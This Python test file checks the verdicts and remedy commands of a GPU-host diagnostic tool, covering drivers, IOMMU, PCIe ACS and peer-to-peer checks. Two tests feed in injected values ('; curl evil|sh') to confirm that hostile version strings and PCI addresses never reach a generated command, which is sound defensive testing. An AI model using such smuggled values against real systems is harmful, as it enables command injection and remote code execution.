"""The checks as specifications: each test names the verdict a host must get."""

from __future__ import annotations

import msgspec
import pytest

from blackwell_doctor.facts import (
    AcsFacts,
    CpuFacts,
    Facts,
    NvmlFacts,
    OsRelease,
    PciBridge,
    PciFacts,
    PciGpu,
    Unavailable,
    WslFacts,
)
from blackwell_doctor.rules.model import Status
from blackwell_doctor.rules.pci import bridges_between
from tests.factsutil import load, replace, result, status

# --------------------------------------------------------------------------- verdicts per host

EXPECTED: dict[str, dict[str, Status]] = {
    "rtxpro6000x4-threadripper-iommu": {
        "gpu.present": Status.PASS,
        "gpu.architecture": Status.PASS,
        "gpu.shared_memory": Status.PASS,
        "driver.version": Status.PASS,
        "driver.cuda_version": Status.PASS,
        "driver.consistency": Status.PASS,
        "platform.wsl": Status.PASS,
        "pci.iommu": Status.WARN,
        "pci.acs": Status.WARN,
        "p2p.nvml_status": Status.PASS,
        "probe.smem_limit": Status.ERROR,  # reconstructed: the launch limit was not measured
        "probe.tiles": Status.WARN,  # 256-wide tiles overflow by 1 KiB; 128x256x256: 1 stage
    },
    "rtx5090-wsl2": {
        "gpu.present": Status.PASS,
        "driver.version": Status.FAIL,
        "driver.cuda_version": Status.WARN,
        "platform.wsl": Status.WARN,
        "pci.iommu": Status.SKIP,
        "pci.acs": Status.SKIP,
        "p2p.nvml_status": Status.SKIP,
    },
    "dgx-spark-gb10": {
        "gpu.present": Status.PASS,
        "gpu.shared_memory": Status.PASS,
        "driver.version": Status.FAIL,
        "driver.cuda_version": Status.WARN,
        "pci.iommu": Status.SKIP,
    },
    "b200-x8": {
        "gpu.present": Status.PASS,
        "gpu.architecture": Status.PASS,
        "driver.version": Status.SKIP,
        "driver.cuda_version": Status.SKIP,
        "pci.iommu": Status.PASS,
        "pci.acs": Status.PASS,
        "p2p.nvml_status": Status.PASS,
        "probe.smem_limit": Status.ERROR,  # reconstructed: the launch limit was not measured
        "probe.tiles": Status.PASS,  # every tile fits 227 KB
    },
    "sm120-driver580": {
        "driver.version": Status.FAIL,
        "driver.cuda_version": Status.WARN,
        "driver.consistency": Status.PASS,
        "pci.iommu": Status.SKIP,
    },
    # Captured on a real 2x H200 (benchmarks/evidence/h200x2), not reconstructed.
    "h200x2-captured": {
        "gpu.present": Status.PASS,
        "gpu.architecture": Status.PASS,
        "gpu.shared_memory": Status.PASS,
        "driver.version": Status.SKIP,
        "driver.cuda_version": Status.SKIP,
        "driver.consistency": Status.PASS,
        "platform.wsl": Status.PASS,
        # a Firecracker guest: its PCI tree says nothing about the host's IOMMU or ACS
        "pci.iommu": Status.SKIP,
        "pci.acs": Status.SKIP,
        "p2p.nvml_status": Status.PASS,
        "p2p.transfer": Status.PASS,  # measured: copies and peer writes verified over NVLink
        "probe.smem_limit": Status.PASS,  # measured: 232,448 B launches, as advertised
        "probe.tiles": Status.PASS,
    },
    "no-gpu": {
        "gpu.present": Status.FAIL,
        "gpu.architecture": Status.SKIP,
        "driver.version": Status.SKIP,
        "driver.consistency": Status.SKIP,
        "platform.wsl": Status.PASS,
        "p2p.nvml_status": Status.SKIP,
        "probe.tiles": Status.SKIP,
    },
}


@pytest.mark.parametrize(
    ("fixture", "check_id", "expected"),
    [(f, c, s) for f, checks in EXPECTED.items() for c, s in checks.items()],
)
def test_fixture_verdicts(fixture: str, check_id: str, expected: Status) -> None:
    assert status(load(fixture), check_id) is expected


def test_driver_580_fails_on_sm120_with_install_commands_for_the_distribution() -> None:
    r = result(load("sm120-driver580"), "driver.version")
    assert r.status is Status.FAIL
    assert "580.95.05" in r.summary
    assert r.remedy is not None
    joined = "\n".join(r.remedy.commands)
    assert "repos/ubuntu2404/x86_64/cuda-keyring" in joined
    assert "nvidia-open" in joined


def test_driver_remedy_on_dgx_spark_is_a_dgx_os_update_not_the_cuda_repository() -> None:
    r = result(load("dgx-spark-gb10"), "driver.version")
    assert r.remedy is not None
    assert "DGX OS" in r.remedy.summary
    assert not any("cuda-keyring" in c for c in r.remedy.commands)


def _sm120_with(**platform: object) -> Facts:
    facts = load("sm120-driver580")
    changed: Facts = replace(facts, platform=replace(facts.platform, **platform))
    return changed


def test_driver_remedy_on_an_arm64_server_uses_the_sbsa_repository() -> None:
    r = result(_sm120_with(machine="aarch64"), "driver.version")
    assert r.remedy is not None
    assert any("repos/ubuntu2404/sbsa/cuda-keyring" in c for c in r.remedy.commands)


def test_driver_remedy_without_machine_treats_ampere_cpus_as_arm64() -> None:
    facts = _sm120_with(
        machine=Unavailable("not-collected"),
        cpu=CpuFacts(vendor="Ampere", model="Ampere Altra", logical_cpus=80),
    )
    r = result(facts, "driver.version")
    assert r.remedy is not None
    assert any("/sbsa/" in c for c in r.remedy.commands)


def test_driver_remedy_on_fedora_41_uses_dnf5_syntax() -> None:
    facts = _sm120_with(
        machine="x86_64", os_release=OsRelease(id="fedora", version_id="41", pretty_name="F41")
    )
    r = result(facts, "driver.version")
    assert r.remedy is not None
    assert any("addrepo --from-repofile=" in c for c in r.remedy.commands)


def test_a_hostile_version_id_never_reaches_a_command() -> None:
    facts = _sm120_with(
        os_release=OsRelease(id="ubuntu", version_id="24.04; curl evil|sh", pretty_name="x")
    )
    r = result(facts, "driver.version")
    assert r.remedy is not None
    assert not any("curl" in c for c in r.remedy.commands)


def test_driver_remedy_under_wsl_is_the_windows_driver_not_a_linux_package() -> None:
    r = result(load("rtx5090-wsl2"), "driver.version")
    assert r.remedy is not None
    assert "Windows driver" in r.remedy.summary
    assert not any("apt-get" in c for c in r.remedy.commands)


def test_driver_595_passes_on_sm120() -> None:
    facts = load("sm120-driver580")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    facts = replace(facts, nvml=replace(nvml, driver_version="595.45.04"))
    facts = replace(facts, platform=replace(facts.platform, nvidia_kernel_module="595.45.04"))
    assert status(facts, "driver.version") is Status.PASS


def test_driver_version_unreadable_is_not_evaluated_never_a_pass() -> None:
    facts = load("sm120-driver580")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    facts = replace(
        facts,
        nvml=replace(nvml, driver_version=Unavailable("not-supported")),
        platform=replace(facts.platform, nvidia_kernel_module=Unavailable("not-found:/proc/x")),
    )
    r = result(facts, "driver.version")
    assert r.status is Status.ERROR
    assert r.summary.startswith("not evaluated:")


def test_kernel_module_and_userspace_driver_mismatch_fails() -> None:
    facts = load("sm120-driver580")
    facts = replace(facts, platform=replace(facts.platform, nvidia_kernel_module="570.86.10"))
    r = result(facts, "driver.consistency")
    assert r.status is Status.FAIL
    assert "570.86.10" in r.summary
    assert "580.95.05" in r.summary


def test_nvml_library_mismatch_is_explained_even_though_no_gpu_answers() -> None:
    facts = load("sm120-driver580")
    facts = replace(facts, nvml=Unavailable("nvml-driver-library-mismatch"))
    assert status(facts, "driver.consistency") is Status.FAIL
    present = result(facts, "gpu.present")
    assert present.status is Status.FAIL  # the GPU is on PCI, the driver does not answer
    assert present.remedy is not None
    assert "Reboot" in present.remedy.summary


def test_libcuda_from_another_driver_warns() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    cuda = facts.cuda
    assert not isinstance(cuda, Unavailable)
    facts = replace(facts, cuda=replace(cuda, driver_version="12.8"))
    r = result(facts, "driver.consistency")
    assert r.status is Status.WARN
    assert "12.8" in r.summary


def test_gpu_on_pci_without_driver_fails_and_pci_checks_still_run() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    facts = replace(
        facts, nvml=Unavailable("nvml-driver-not-loaded"), cuda=Unavailable("libcuda-not-found")
    )
    r = result(facts, "gpu.present")
    assert r.status is Status.FAIL
    assert "nvml-driver-not-loaded" in r.summary
    # pci.* judge the sysfs inventory: they work without a driver.
    assert status(facts, "pci.iommu") is Status.WARN
    assert status(facts, "driver.version") is Status.SKIP  # blocked by gpu.present


def test_wsl1_fails_and_native_passes() -> None:
    facts = load("rtx5090-wsl2")
    wsl1 = replace(facts, platform=replace(facts.platform, wsl=WslFacts(kind="wsl1")))
    assert status(wsl1, "platform.wsl") is Status.FAIL
    native = replace(facts, platform=replace(facts.platform, wsl=WslFacts(kind="none")))
    assert status(native, "platform.wsl") is Status.PASS


def test_unknown_compute_capability_warns() -> None:
    facts = load("sm120-driver580")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    gpus = [replace(g, compute_capability=(13, 0)) for g in nvml.gpus]
    r = result(replace(facts, nvml=replace(nvml, gpus=gpus)), "gpu.architecture")
    assert r.status is Status.WARN
    assert "13.0" in r.summary


def test_sm120_architecture_explains_the_99kb_budget() -> None:
    r = result(load("rtxpro6000x4-threadripper-iommu"), "gpu.architecture")
    assert "101,376 B" in r.summary
    assert "232,448 B" in r.summary  # what datacenter parts give, for contrast
    assert "227 KB" in str(r.evidence["why it matters"])


def test_shared_memory_differing_from_the_table_warns() -> None:
    facts = load("sm120-driver580")
    cuda = facts.cuda
    assert not isinstance(cuda, Unavailable)
    # e.g. a MIG or vGPU profile that grants less than the architecture has
    devices = [replace(d, smem_per_block_optin=65536) for d in cuda.devices]
    r = result(replace(facts, cuda=replace(cuda, devices=devices)), "gpu.shared_memory")
    assert r.status is Status.WARN
    assert "grants 65,536 B" in r.summary
    assert "table says 101,376 B" in r.summary


# --------------------------------------------------------------------------- pci


def test_iommu_passthrough_on_the_command_line_but_dma_domains_still_warns() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    pci = facts.pci
    assert isinstance(pci, PciFacts)
    iommu = replace(pci.iommu, cmdline_options={"iommu": "pt", "amd_iommu": "on"})
    r = result(replace(facts, pci=replace(pci, iommu=iommu)), "pci.iommu")
    assert r.status is Status.WARN
    assert "not in effect" in r.summary


def test_iommu_identity_domains_pass() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    pci = facts.pci
    assert isinstance(pci, PciFacts)
    gpus = [replace(g, iommu_domain_type="identity") for g in pci.gpus]
    assert status(replace(facts, pci=replace(pci, gpus=gpus)), "pci.iommu") is Status.PASS


def test_iommu_type_unreadable_is_not_evaluated() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    pci = facts.pci
    assert isinstance(pci, PciFacts)
    gpus = [replace(g, iommu_domain_type=Unavailable("permission-denied:/sys/x")) for g in pci.gpus]
    assert status(replace(facts, pci=replace(pci, gpus=gpus)), "pci.iommu") is Status.ERROR


def _gpu(bdf: str, upstream: list[str]) -> PciGpu:
    return PciGpu(
        bdf=bdf,
        vendor_id=0x10DE,
        device_id=0x2BB1,
        class_code=0x030000,
        driver="nvidia",
        numa_node=None,
        iommu_group=None,
        iommu_domain_type=None,
        upstream=upstream,
    )


def test_bridges_between_gpus_behind_one_switch_exclude_the_shared_ancestors() -> None:
    # root port 00:01.1 -> switch upstream 01:00.0 -> downstream 02:08.0 / 02:10.0 -> GPUs
    a = _gpu("0000:03:00.0", ["0000:02:08.0", "0000:01:00.0", "0000:00:01.1"])
    b = _gpu("0000:04:00.0", ["0000:02:10.0", "0000:01:00.0", "0000:00:01.1"])
    assert bridges_between(a, b) == ["0000:02:08.0", "0000:02:10.0"]


def test_bridges_between_gpus_on_separate_root_ports_are_both_root_ports() -> None:
    a = _gpu("0000:01:00.0", ["0000:00:01.1"])
    b = _gpu("0000:41:00.0", ["0000:40:01.1"])
    assert bridges_between(a, b) == ["0000:00:01.1", "0000:40:01.1"]


def _switch_host(acs_enabled: list[str], upstream_acs: list[str]) -> PciFacts:
    def acs(enabled: list[str]) -> AcsFacts:
        return AcsFacts(capability_offset=0x148, capability=0x5F, control=0, enabled=enabled)

    return PciFacts(
        gpus=[
            _gpu("0000:03:00.0", ["0000:02:08.0", "0000:01:00.0", "0000:00:01.1"]),
            _gpu("0000:04:00.0", ["0000:02:10.0", "0000:01:00.0", "0000:00:01.1"]),
        ],
        bridges=[
            PciBridge(bdf="0000:00:01.1", acs=acs(upstream_acs)),
            PciBridge(bdf="0000:01:00.0", acs=None),
            PciBridge(bdf="0000:02:08.0", acs=acs(acs_enabled)),
            PciBridge(bdf="0000:02:10.0", acs=acs(acs_enabled)),
        ],
    )


def test_acs_redirect_on_switch_downstream_ports_warns_with_setpci_per_bridge() -> None:
    facts = replace(load("b200-x8"), pci=_switch_host(["SrcValid", "ReqRedir", "CmpltRedir"], []))
    r = result(facts, "pci.acs")
    assert r.status is Status.WARN
    assert "share a PCIe switch" in r.summary
    assert r.remedy is not None
    # value:mask: only ReqRedir and CmpltRedir are cleared
    assert "sudo setpci -s 0000:02:08.0 ECAP_ACS+0x6.w=0000:000c" in r.remedy.commands
    assert "sudo setpci -s 0000:02:10.0 ECAP_ACS+0x6.w=0000:000c" in r.remedy.commands
    assert "reboot" in r.remedy.summary


def test_acs_redirect_above_the_shared_switch_is_not_on_the_peer_path() -> None:
    facts = replace(load("b200-x8"), pci=_switch_host(["SrcValid"], ["ReqRedir", "CmpltRedir"]))
    assert status(facts, "pci.acs") is Status.PASS


def test_acs_unreadable_without_root_is_not_evaluated_and_says_run_as_root() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    pci = facts.pci
    assert isinstance(pci, PciFacts)
    truncated = [
        replace(b, acs=Unavailable(f"config-space-truncated:/sys/bus/pci/devices/{b.bdf}/config"))
        for b in pci.bridges
    ]
    r = result(replace(facts, pci=replace(pci, bridges=truncated)), "pci.acs")
    assert r.status is Status.ERROR
    assert "run as root" in r.summary


# --------------------------------------------------------------------------- p2p


def test_p2p_refused_names_the_status_and_its_short_form() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    assert not isinstance(nvml.p2p, Unavailable)
    pairs = list(nvml.p2p)
    pairs[0] = replace(pairs[0], read="CHIPSET_NOT_SUPPORTED")
    r = result(replace(facts, nvml=replace(nvml, p2p=pairs)), "p2p.nvml_status")
    assert r.status is Status.WARN
    assert "CHIPSET_NOT_SUPPORTED (CNS)" in r.summary
    assert "GPU0-GPU1" in r.summary


def test_p2p_on_geforce_says_stock_drivers_have_none() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    assert not isinstance(nvml.p2p, Unavailable)
    gpus = [replace(g, name="NVIDIA GeForce RTX 5090") for g in nvml.gpus]
    pairs = [replace(p, read="GPU_NOT_SUPPORTED", write="GPU_NOT_SUPPORTED") for p in nvml.p2p]
    r = result(replace(facts, nvml=replace(nvml, gpus=gpus, p2p=pairs)), "p2p.nvml_status")
    # Nothing to fix on stock drivers: not applicable, so --fail-on warn stays usable.
    assert r.status is Status.SKIP
    assert "GeForce" in r.summary


def test_p2p_with_pairs_missing_is_not_evaluated_never_a_pass() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    assert not isinstance(nvml.p2p, Unavailable)
    r = result(replace(facts, nvml=replace(nvml, p2p=nvml.p2p[:1])), "p2p.nvml_status")
    assert r.status is Status.ERROR
    assert "1 of 6 pairs" in r.summary


def test_p2p_status_unavailable_is_not_evaluated() -> None:
    facts = load("b200-x8")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    facts = replace(facts, nvml=replace(nvml, p2p=Unavailable("nvml-function-not-found")))
    assert status(facts, "p2p.nvml_status") is Status.ERROR


def test_nvlink_not_supported_alone_is_not_a_finding() -> None:
    # PCIe-only workstations report NVLINK NOT_SUPPORTED for every pair; that is normal.
    r = result(load("rtxpro6000x4-threadripper-iommu"), "p2p.nvml_status")
    assert r.status is Status.PASS
    assert any("nvlink=NS" in str(v) for v in r.evidence.values())


def test_every_fixture_evaluates_and_round_trips_through_json() -> None:
    from blackwell_doctor.evaluate import evaluate
    from blackwell_doctor.report import Report

    for name in EXPECTED:
        report = evaluate(load(name), embed_facts=True)
        again = msgspec.json.decode(msgspec.json.encode(report), type=Report)
        assert again == report


def test_unreadable_kernel_command_line_is_not_reported_as_missing_iommu_pt() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    pci = facts.pci
    assert isinstance(pci, PciFacts)
    facts = replace(
        facts,
        platform=replace(
            facts.platform, kernel_cmdline=Unavailable("permission-denied:/proc/cmdline")
        ),
        pci=replace(pci, iommu=replace(pci.iommu, cmdline_options={})),
    )
    r = result(facts, "pci.iommu")
    assert r.status is Status.WARN
    assert "command line is unreadable (permission-denied:/proc/cmdline)" in r.summary
    assert "iommu=pt is not set" not in r.summary


# ------------------------------------------------------------ never a pass on missing facts


def test_shared_memory_with_a_cc_outside_the_table_is_not_evaluated() -> None:
    facts = load("sm120-driver580")
    cuda = facts.cuda
    assert not isinstance(cuda, Unavailable)
    devices = [replace(d, compute_capability=(13, 0)) for d in cuda.devices]
    r = result(replace(facts, cuda=replace(cuda, devices=devices)), "gpu.shared_memory")
    assert r.status is Status.ERROR
    assert "no table entry for CC 13.0" in r.summary


def test_shared_memory_with_one_device_unreadable_is_not_evaluated() -> None:
    facts = load("b200-x8")
    cuda = facts.cuda
    assert not isinstance(cuda, Unavailable)
    devices = list(cuda.devices)
    devices[3] = replace(devices[3], smem_per_block_optin=Unavailable("cuda-error-unknown"))
    r = result(replace(facts, cuda=replace(cuda, devices=devices)), "gpu.shared_memory")
    assert r.status is Status.ERROR
    assert "GPU3" in r.summary


def test_wsl_unknown_when_kernel_strings_are_unreadable_is_not_evaluated() -> None:
    facts = load("sm120-driver580")
    platform = replace(
        facts.platform,
        wsl=WslFacts(kind="unknown"),
        kernel_version=Unavailable("permission-denied:/proc/version"),
        kernel_release=Unavailable("permission-denied:/proc/sys/kernel/osrelease"),
    )
    r = result(replace(facts, platform=platform), "platform.wsl")
    assert r.status is Status.ERROR
    assert "permission-denied:/proc/version" in r.summary


def test_driver_floor_with_an_unknown_cc_is_not_evaluated_never_skipped() -> None:
    facts = load("sm120-driver580")
    nvml, cuda = facts.nvml, facts.cuda
    assert isinstance(nvml, NvmlFacts)
    assert not isinstance(cuda, Unavailable)
    facts = replace(
        facts,
        nvml=replace(
            nvml, gpus=[replace(g, compute_capability=Unavailable("x")) for g in nvml.gpus]
        ),
        cuda=replace(
            cuda,
            devices=[replace(d, compute_capability=Unavailable("x")) for d in cuda.devices],
        ),
    )
    assert status(facts, "driver.version") is Status.ERROR
    assert status(facts, "driver.cuda_version") is Status.ERROR


def _lose_gpu(name: str, driver: str | None) -> Facts:
    facts = load(name)
    nvml, pci = facts.nvml, facts.pci
    assert isinstance(nvml, NvmlFacts)
    assert isinstance(pci, PciFacts)
    gpus = list(pci.gpus)
    gpus[-1] = replace(gpus[-1], driver=driver)
    lost: Facts = replace(
        facts, nvml=replace(nvml, gpus=nvml.gpus[:-1]), pci=replace(pci, gpus=gpus)
    )
    return lost


def test_a_gpu_on_pci_that_nvml_does_not_list_fails() -> None:
    r = result(_lose_gpu("rtxpro6000x4-threadripper-iommu", "nvidia"), "gpu.present")
    assert r.status is Status.FAIL
    assert "NVML answers for 3 of 4" in r.summary
    assert "0000:61:00.0" in r.summary
    assert r.remedy is not None
    assert "Xid" in r.remedy.summary


def test_a_gpu_handed_to_vfio_is_a_warning_not_a_failure() -> None:
    r = result(_lose_gpu("rtxpro6000x4-threadripper-iommu", "vfio-pci"), "gpu.present")
    assert r.status is Status.WARN
    assert "vfio-pci" in r.summary


def test_no_gpu_with_pci_unreadable_does_not_claim_there_is_none_on_the_bus() -> None:
    facts = replace(load("no-gpu"), pci=Unavailable("permission-denied:/sys/bus/pci/devices"))
    r = result(facts, "gpu.present")
    assert r.status is Status.FAIL
    assert "PCI: unreadable (permission-denied:/sys/bus/pci/devices)" in r.summary
    assert "none with vendor" not in r.summary


def test_pci_checks_skip_inside_a_virtual_machine() -> None:
    from blackwell_doctor.facts import VirtualizationFacts

    facts = load("rtxpro6000x4-threadripper-iommu")
    vm = VirtualizationFacts(in_vm=True, signals=["cpuinfo:hypervisor", "dmi:sys_vendor=QEMU"])
    facts = replace(facts, platform=replace(facts.platform, virtualization=vm))
    for check_id in ("pci.iommu", "pci.acs"):
        r = result(facts, check_id)
        assert r.status is Status.SKIP
        assert "virtual machine" in r.summary


def test_iommu_remedy_follows_the_distribution() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    rhel = replace(
        facts,
        platform=replace(
            facts.platform, os_release=OsRelease(id="rocky", version_id="9.4", pretty_name="R")
        ),
    )
    r = result(rhel, "pci.iommu")
    assert r.remedy is not None
    assert 'sudo grubby --update-kernel=ALL --args="iommu=pt"' in r.remedy.commands
    assert not any("update-grub" in c for c in r.remedy.commands)
    ubuntu = result(facts, "pci.iommu")
    assert ubuntu.remedy is not None
    assert any("update-grub" in c for c in ubuntu.remedy.commands)
    # the last resort is said, not pasted after a reboot
    assert not any("NCCL_P2P_DISABLE" in c for c in ubuntu.remedy.commands)
    assert "NCCL_P2P_DISABLE=1" in ubuntu.remedy.summary


def test_iommu_remedy_does_not_tell_you_to_add_what_is_already_there() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    pci = facts.pci
    assert isinstance(pci, PciFacts)
    iommu = replace(pci.iommu, cmdline_options={"iommu": "pt"})
    r = result(replace(facts, pci=replace(pci, iommu=iommu)), "pci.iommu")
    assert r.remedy is not None
    assert "is not on the kernel command line" not in r.remedy.summary
    assert "still translate" in r.remedy.summary


def test_a_hostile_bdf_in_a_facts_file_is_rejected_on_decode() -> None:
    import json

    from blackwell_doctor.facts import FactsError, decode_facts
    from tests.conftest import FACTS_FIXTURES

    doc = json.loads((FACTS_FIXTURES / "rtxpro6000x4-threadripper-iommu.json").read_text())
    doc["pci"]["bridges"][0]["bdf"] = "0000:00:01.1 ECAP_ACS+0x6.w=0000; curl evil|sh #"
    with pytest.raises(FactsError, match="bdf"):
        decode_facts(json.dumps(doc).encode())
